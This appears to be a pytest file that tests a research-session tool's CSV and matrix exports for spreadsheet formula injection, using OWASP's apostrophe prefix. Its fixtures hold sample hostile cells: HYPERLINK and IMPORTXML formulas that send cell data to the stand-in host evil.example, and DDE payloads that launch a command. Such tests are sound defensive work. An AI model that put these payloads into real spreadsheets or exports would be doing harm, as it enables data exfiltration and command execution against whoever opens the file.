"""Issue 22, finding 11: spreadsheet formula injection. A cell of the long CSV or the
matrix that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a
formula by Excel, LibreOffice or Google Sheets; notes, `-x` values and transcripts
(which come from third parties) can begin so. By default such a cell gets OWASP's
prefix, an apostrophe, and is read as text; `--raw` keeps every cell as written, for
pandas and R (docs/analysis.md)."""

from __future__ import annotations

import csv
import io

import pytest
from analysis_fixtures import run_command, save
from guide_factory import FakeClock, demo_guide
from helpers import FIXED_NOW

from prompter.session import Session

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "role": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "where": "+cmd|' /C calc'!A0",
    "tools": "-2+3",
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
}
EXTRA = "=1+1"
LABEL = "\t=1+1"
SAID = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
VTT = f"WEBVTT\n\n00:00:01.000 --> 00:00:30.000\n{SAID}\n"


@pytest.fixture
def study(tmp_path):
    clock = FakeClock()
    s = Session(demo_guide(), "P1", "@AB", {"site": EXTRA}, clock=clock, now=FIXED_NOW)
    s.mark_recording()
    for qid, note in HOSTILE.items():
        s.goto(qid)
        clock.advance(5)
        s.mark("asked")
        s.set_note(note)
    s.add_bookmark(LABEL)
    folder = tmp_path / "sessions"
    save(s, folder)
    transcripts = tmp_path / "transcripts"
    transcripts.mkdir()
    (transcripts / "P1.vtt").write_text(VTT, encoding="utf-8")
    return folder, transcripts


def _cells(argv) -> list[str]:
    status, out, err = run_command(argv)
    assert status == 0, err
    return [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]


EXPORTS = {
    "long csv": ["--format", "csv"],
    "matrix of notes": ["--format", "matrix", "--columns", "questions"],
    "matrix of transcripts": [
        "--format",
        "matrix",
        "--columns",
        "questions",
        "--cells",
        "transcript",
    ],
}


@pytest.mark.parametrize("args", EXPORTS.values(), ids=EXPORTS.keys())
def test_no_cell_is_run_as_a_formula(study, args):
    folder, transcripts = study
    cells = _cells(["export", str(folder), *args, "--transcripts", str(transcripts)])
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    texts = [c.removeprefix("'") for c in cells if c.startswith("'")]
    if args[1] == "csv":
        assert set(HOSTILE.values()) | {EXTRA, "@AB", SAID} <= set(texts)
        assert any(LABEL in c for c in cells)  # the bookmark cell begins with its time
    elif "transcript" in args:
        assert any(t.startswith(SAID) for t in texts)
    else:
        assert set(HOSTILE.values()) <= set(texts)


@pytest.mark.parametrize("args", EXPORTS.values(), ids=EXPORTS.keys())
def test_raw_keeps_every_cell_as_written(study, args):
    folder, transcripts = study
    cells = _cells(["export", str(folder), *args, "--transcripts", str(transcripts), "--raw"])
    if args[1] == "csv":
        assert set(HOSTILE.values()) | {EXTRA, "@AB", SAID} <= set(cells)
    else:
        assert any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert not [c for c in cells if c.startswith("'")]


def test_a_signed_number_or_time_stays_a_value():
    from prompter.analysis.export.long_csv import neutral

    for value in ("-00:00:05", "-2", "+3.5", "-1:02:03"):
        assert neutral(value) == value
    for formula in ("-2+3", "-A1", "+1e5", "-1:02:03*2", "=2", "@2", "\t2", "-"):
        assert neutral(formula) == "'" + formula


def test_raw_is_for_the_csv_formats_only(study):
    folder, _ = study
    status, _, err = run_command(["export", str(folder), "--format", "markdown", "--raw"])
    assert status == 2 and "--raw" in err
